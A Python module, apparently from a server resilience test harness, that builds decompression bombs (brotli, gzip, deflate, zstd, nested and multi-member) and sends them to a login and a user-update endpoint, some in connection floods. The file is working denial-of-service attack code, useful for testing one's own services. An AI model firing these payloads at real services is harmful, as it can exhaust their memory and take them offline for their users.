"""Bodies that are much larger unpacked than packed."""

import asyncio
import gzip
import zlib
from collections.abc import Callable
from contextlib import suppress

from attacks import attack, variant
from load import Target, exchanges, flood

# 10 MiB of zeros in brotli: 14 bytes.
BROTLI = bytes.fromhex("9fffff9ff82700e2b14020f7fe13")
EMPTY_MEMBER = gzip.compress(b"", mtime=0)
MEBIBYTE = 1 << 20


def login(target: Target, encoding: str, body: bytes) -> bytes:
    headers = (("Content-Type", "application/json"), ("Content-Encoding", encoding))
    return target.request("POST", "/auth/login", *headers, body=body)


def packed() -> bytes:
    return gzip.compress(bytes(10 * MEBIBYTE), mtime=0)


@attack("a")
async def brotli_bomb_trickle(target: Target) -> None:
    """the brotli bomb from 16 connections at 2 KB/s in all, each request on its own connection"""
    request = login(target, "br", BROTLI)

    async def one() -> None:
        with suppress(OSError, TimeoutError):
            connection = await target.connect()
            try:
                await asyncio.wait_for(connection.exchange(request), 30)
            finally:
                connection.close()

    running: set[asyncio.Task] = set()
    while True:
        if len(running) < 16:
            task = asyncio.create_task(one())
            running.add(task)
            task.add_done_callback(running.discard)
        await asyncio.sleep(len(request) / 2_200)


@attack("a")
async def brotli_bomb_http_pipeline(target: Target) -> None:
    """the brotli bomb, 16 at once on each connection"""
    request = login(target, "br", BROTLI)
    await flood(target, lambda: request, connections=8, batch=16)


def zstd() -> bytes:
    # A frame (RFC 8878, section 3.1.1) of run-length blocks: a block header of 3 bytes, then the byte to repeat.
    blocks = [(131_072 << 3 | 1 << 1 | (number == 79)).to_bytes(3, "little") + b" " for number in range(80)]
    return bytes.fromhex("28b52ffd") + b"\x00\x58" + b"".join(blocks)


@variant(
    "a",
    "truncated_bombs",
    "bombs whose last byte is missing, so that they fail at the end",
    "gzip",
    lambda: packed()[:-9],
)
@variant(
    "a",
    "many_brotli_streams",
    "login with 2 MiB of brotli streams, one after the other",
    "br",
    lambda: b"\x3b" * (2 * MEBIBYTE),
    4,
)
@variant(
    "a",
    "nested_encodings",
    "login with a bomb in a bomb: gzip of gzip of 10 MiB",
    "gzip, gzip",
    lambda: gzip.compress(packed(), mtime=0),
)
@variant("a", "zstd_bomb", "login with 340 bytes of zstd that unpack to 10 MiB", "zstd", zstd)
@variant(
    "a",
    "deflate_bomb",
    "login with 10 KB of deflate that unpack to 10 MiB",
    "deflate",
    lambda: zlib.compress(bytes(10 * MEBIBYTE)),
)
@variant("a", "gzip_bomb", "login with 10 KB of gzip that unpack to 10 MiB", "gzip", packed)
@variant(
    "a",
    "small_gzip_members",
    "login with gzip members of one byte each",
    "gzip",
    lambda: gzip.compress(b" ", mtime=0) * 30_000,
    8,
)
@variant(
    "a",
    "gzip_members",
    "login with 3 MiB made of empty gzip members",
    "gzip",
    lambda: EMPTY_MEMBER * (3 * MEBIBYTE // len(EMPTY_MEMBER)),
    4,
)
@variant("a", "brotli_bomb", "login with 14 bytes of brotli that unpack to 10 MiB", "br", lambda: BROTLI)
async def packed_logins(target: Target, encoding: str, body: Callable[[], bytes], connections: int = 16) -> None:
    request = login(target, encoding, body())
    await exchanges(target, lambda: request, connections=connections)


@attack("a")
async def bomb_with_a_credential(target: Target) -> None:
    """the brotli bomb of an ordinary user to an operation that needs a credential"""
    headers = (("Content-Type", "application/json"), ("Content-Encoding", "br"))
    request = target.request("PUT", "/users/me", *headers, body=BROTLI, token=target.user.token)
    await exchanges(target, lambda: request)
